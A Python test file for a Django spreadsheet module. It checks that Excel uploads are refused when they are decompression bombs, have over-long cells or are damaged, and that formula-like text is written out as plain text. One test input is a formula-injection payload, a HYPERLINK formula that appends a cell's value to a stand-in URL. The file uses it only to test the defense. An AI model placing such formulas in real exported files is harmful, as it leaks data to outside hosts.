"""Excel lists: reading an upload safely, and writing workbooks whose text stays text."""

from __future__ import annotations

import io
import tracemalloc

import pytest
from django.utils import translation
from openpyxl import load_workbook

from core.errors import DomainError
from core.spreadsheets import (
    MAX_CELL_CHARS,
    MAX_UPLOAD_BYTES,
    Column,
    read_table,
    workbook_bytes,
)
from tests.workbooks import upload, xlsx_bomb, xlsx_upload


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


COLUMNS = (Column("short_name", "Short name"), Column("full_name", "Full name"))
HEADER = ["Short name", "Full name"]


class TestReading:
    def test_a_sound_list_is_read_row_by_row(self):
        rows = read_table(xlsx_upload([HEADER, ["Sở Y tế", "Sở Y tế tỉnh Đắk Lắk"]]), COLUMNS)

        assert rows == [(2, ("Sở Y tế", "Sở Y tế tỉnh Đắk Lắk"))]

    def test_a_file_that_unpacks_to_a_gigabyte_is_refused_without_unpacking_it(self):
        bomb = xlsx_bomb([HEADER, ["Sở Y tế", "x"]], unpacked_mb=1024)
        assert len(bomb) < MAX_UPLOAD_BYTES  # small enough to be uploaded

        tracemalloc.start()
        try:
            with pytest.raises(DomainError) as refusal:
                read_table(upload(bomb, "bomb.xlsx"), COLUMNS)
            _current, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()

        assert "unpacks to far more than a list holds (1024 MB)" in refusal.value.message
        assert refusal.value.field == "file"
        assert peak < 2 * 1024 * 1024

    def test_the_refusal_speaks_vietnamese(self):
        bomb = xlsx_bomb([HEADER, ["Sở Y tế", "x"]], unpacked_mb=64)

        with translation.override("vi"), pytest.raises(DomainError) as refusal:
            read_table(upload(bomb, "bomb.xlsx"), COLUMNS)

        assert refusal.value.message.startswith("Tệp giải nén ra tới 64 MB")

    def test_a_cell_longer_than_any_name_is_refused_with_its_row(self):
        rows = [HEADER, ["Sở Y tế", "Sở Y tế"], ["Sở Nội vụ", "N" * (MAX_CELL_CHARS + 1)]]

        with pytest.raises(DomainError) as refusal:
            read_table(xlsx_upload(rows), COLUMNS)

        assert refusal.value.message.startswith("Row 3 has a cell longer than 1000 characters")

    def test_a_damaged_archive_is_refused(self):
        with pytest.raises(DomainError) as refusal:
            read_table(upload(b"PK\x03\x04" + b"\x00" * 100, "x.xlsx"), COLUMNS)

        assert "may be damaged" in refusal.value.message


class TestWriting:
    @pytest.mark.parametrize(
        "text", ['=HYPERLINK("http://x.example/?"&A2,"bấm")', "+1+1", "-2", "@SUM(A1)"]
    )
    def test_text_that_looks_like_a_formula_is_written_as_text_as_typed(self, text):
        content = workbook_bytes(["Tên", "Số"], [[text, 3]], title="Danh sách")

        sheet = load_workbook(io.BytesIO(content)).active
        cell, number = sheet["A2"], sheet["B2"]
        assert (cell.value, cell.data_type) == (text, "s")
        assert (number.value, number.data_type) == (3, "n")
